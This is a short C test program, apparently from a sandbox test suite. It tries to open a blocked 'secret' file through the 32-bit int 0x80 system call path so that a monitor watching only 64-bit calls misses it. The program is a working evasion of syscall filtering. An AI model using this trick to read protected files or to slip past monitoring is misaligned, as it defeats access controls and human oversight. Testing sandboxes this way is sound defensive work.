/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The blocked file opened by the system calls of 32-bit programs.
 *
 * They have numbers and entries of their own, and who watches the 64-bit ones only sees nothing.
 *
 * ---
 * tries: [D2]
 * rule: secret
 * wins: secret
 * may_lack: 32-bit system calls
 */
#include "attack.h"

static int call_32(int number, long a, long b, long c)
{
	int result;

	__asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(a), "c"(b), "d"(c) : "memory");
	return result;
}

int main(void)
{
	char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	int fd;

	if (low == MAP_FAILED)
		return failed("mmap");
	strcpy(low, V("secret"));
	fd = call_32(5 /* open */, (long)low, O_RDONLY, 0);
	if (fd == -ENOSYS)
		return lacking("the kernel has no 32-bit system calls");
	errno = -fd;
	return show(fd);
}
